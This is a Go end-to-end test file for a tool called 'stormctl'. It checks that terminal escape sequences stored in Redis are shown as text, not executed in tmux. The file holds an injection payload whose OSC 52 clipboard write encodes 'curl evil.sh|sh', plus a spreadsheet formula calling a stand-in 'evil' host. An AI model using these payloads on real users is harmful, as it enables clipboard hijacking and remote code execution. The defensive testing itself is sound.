package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stormctl/stormctl/actions"
	"github.com/stormctl/stormctl/controlplane"
	"github.com/stormctl/stormctl/internal/config"
	"github.com/stormctl/stormctl/internal/testenv"
	"github.com/stormctl/stormctl/journal"
	"github.com/stormctl/stormctl/lever"
)

// hostile is what someone with Redis write access can leave for the next
// responder: clear the screen, set the window title (OSC 0), write the
// clipboard (OSC 52), an 8-bit CSI and a bidi override. The hostile-text
// scripts in testdata/script seed the same payload from a file.
const hostile = "amplification\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\u009b8m\u202eok"

// seedHostile writes the payload straight into the control plane, past
// every input check: a lever's reason and actor, a journal note, an
// incident title.
func seedHostile(t *testing.T, e *actionEnv) {
	t.Helper()
	ctx := context.Background()
	s, err := controlplane.Open(ctx, config.Redis{URL: e.env["STORMCTL_REDIS_URL"], Namespace: "cli"}, func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	actor := "mal\x1b[8mlory"
	if err := seed(ctx, s, seedDoc{
		Levers: []seedLever{{Lever: lever.Lever{Kind: lever.Retries, Target: "checkout->payments", Value: "off",
			Actor: actor, Reason: hostile}, TTL: "10m"}},
		Incidents: []actions.Incident{{ID: "INC-EVIL", Title: hostile, OpenedBy: actor}},
		Journal: []journal.Entry{{Event: journal.Note, Actor: actor, Incident: "INC-EVIL",
			Reason: "=HYPERLINK(\"http://evil\")" + hostile, Error: hostile}},
	}); err != nil {
		t.Fatal(err)
	}
}

// TestDashboardHostileTextInTmux runs the real dashboard in tmux on a real
// redis-server holding a lever whose reason sets the window title (OSC 0)
// and writes the clipboard (OSC 52). tmux obeys both — it renames the pane
// and, with set-clipboard on, stores a paste buffer — so the test sees any
// that gets through; the screen must show the payload as text instead.
func TestDashboardHostileTextInTmux(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end: builds stormctl and drives it in tmux")
	}
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Skip("tmux is not installed: `make deps` installs it; skipping the terminal end-to-end test")
	}
	e := newActionEnv(t)
	seedHostile(t, e)
	dir := t.TempDir()
	bin := filepath.Join(dir, "stormctl")
	if out, err := exec.Command("go", "build", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	var env []string
	for k, v := range e.env {
		env = append(env, k+"="+v)
	}
	s := &tmuxSession{t: t, socket: fmt.Sprintf("stormctl-hostile-%d", os.Getpid())}
	t.Cleanup(func() { _, _ = s.tmux("kill-server") })
	cmd := fmt.Sprintf("env %s %s dash --refresh 2s 2>%s", strings.Join(env, " "), bin, filepath.Join(dir, "dash.err"))
	if out, err := s.tmux("-f", "/dev/null", "new-session", "-d", "-s", "dash", "-x", "200", "-y", "60", "-c", dir, cmd, ";",
		"set", "-g", "set-clipboard", "on", ";", "select-pane", "-t", "dash", "-T", "clean"); err != nil {
		t.Fatalf("tmux: %v: %s", err, out)
	}
	// The lever is drawn (or the payload has already acted on tmux).
	title := func() string {
		out, _ := s.tmux("display", "-p", "-t", "dash", "#{pane_title}")
		return strings.TrimSpace(out)
	}
	for deadline := time.Now().Add(30 * time.Second); !strings.Contains(s.screen(), "Levers (1)") && title() == "clean"; {
		if time.Now().After(deadline) {
			t.Fatalf("waited 30s for the lever; the screen:\n%s", s.screen())
		}
		time.Sleep(500 * time.Millisecond)
	}
	time.Sleep(3 * time.Second) // a refresh or two redraws the lever
	if got := title(); got != "clean" {
		t.Errorf("the pane title became %q: OSC 0 reached the terminal", got)
	}
	if bufs, _ := s.tmux("list-buffers"); strings.TrimSpace(bufs) != "" {
		t.Errorf("a paste buffer appeared: OSC 52 reached the terminal: %s", bufs)
	}
	if !regexp.MustCompile(`mal\\u001b\[8mlory · amplification\\u001b\[2J\\u001b\[H\\u001b\]0`).MatchString(s.screen()) {
		t.Errorf("the lever's actor and reason are not shown as text:\n%s", s.screen())
	}
	s.keys("q")
}

// TestDemoTimelineHostileTextInTmux: the timeline `stormctl demo` prints on
// exit carries a journal note that someone wrote straight into the real
// redis-server under the demo's incident; tmux must not obey its OSC 0 or
// OSC 52, and the scrollback shows it as text.
func TestDemoTimelineHostileTextInTmux(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end: builds stormctl and runs the demo in tmux")
	}
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Skip("tmux is not installed: `make deps` installs it; skipping the terminal end-to-end test")
	}
	rd := testenv.StartRedis(t, testenv.RedisOptions{})
	dir := t.TempDir()
	bin := filepath.Join(dir, "stormctl")
	if out, err := exec.Command("go", "build", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	errFile := filepath.Join(dir, "demo.err")
	// The state directory apart from the binary: $XDG_STATE_HOME/stormctl
	// is a directory the demo writes its report under.
	env := []string{"STORMCTL_CONFIG=" + os.DevNull, "STORMCTL_ACTOR=e2e", "XDG_STATE_HOME=" + filepath.Join(dir, "state")}
	s := &tmuxSession{t: t, socket: fmt.Sprintf("stormctl-demo-hostile-%d", os.Getpid())}
	t.Cleanup(func() { _, _ = s.tmux("kill-server") })
	// The pane outlives the demo, so that its last output can be read.
	cmd := fmt.Sprintf("env %s %s demo --redis-url %s --refresh 2s 2>%s; sleep 600", strings.Join(env, " "), bin, rd.URL("", ""), errFile)
	if out, err := s.tmux("-f", "/dev/null", "new-session", "-d", "-s", "dash", "-x", "200", "-y", "60", "-c", dir, cmd, ";",
		"set", "-g", "set-clipboard", "on", ";", "set", "-g", "history-limit", "5000", ";", "select-pane", "-t", "dash", "-T", "clean"); err != nil {
		t.Fatalf("tmux: %v: %s", err, out)
	}
	s.waitFor("the dashboard", regexp.MustCompile(`Playbook retry-amplification`), 60*time.Second)
	raw, _ := os.ReadFile(errFile)
	m := regexp.MustCompile(`incident (\S+);`).FindSubmatch(raw)
	if m == nil {
		t.Fatalf("no incident in the demo's stderr: %s", raw)
	}
	store, err := controlplane.Open(context.Background(), config.Redis{URL: rd.URL("", "")}, func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	if _, err := store.Append(context.Background(), journal.Entry{Event: journal.Note, Actor: "mallory", Incident: string(m[1]),
		Reason: hostile}); err != nil {
		t.Fatal(err)
	}
	time.Sleep(3 * time.Second) // the dashboard follows the journal and draws the note
	s.keys("q")
	scrollback := func() string { out, _ := s.tmux("capture-pane", "-p", "-S", "-", "-t", "dash"); return out }
	for deadline := time.Now().Add(30 * time.Second); !strings.Contains(scrollback(), "entries._"); {
		if time.Now().After(deadline) {
			t.Fatalf("waited 30s for the timeline; the screen:\n%s", scrollback())
		}
		time.Sleep(500 * time.Millisecond)
	}
	if title, _ := s.tmux("display", "-p", "-t", "dash", "#{pane_title}"); strings.TrimSpace(title) != "clean" {
		t.Errorf("the pane title became %q: OSC 0 reached the terminal", strings.TrimSpace(title))
	}
	if bufs, _ := s.tmux("list-buffers"); strings.TrimSpace(bufs) != "" {
		t.Errorf("a paste buffer appeared: OSC 52 reached the terminal: %s", bufs)
	}
	if !strings.Contains(scrollback(), `| note | amplification\u001b[2J\u001b[H\u001b]0;pwned`) {
		t.Errorf("the timeline does not show the note as text:\n%s", scrollback())
	}
}
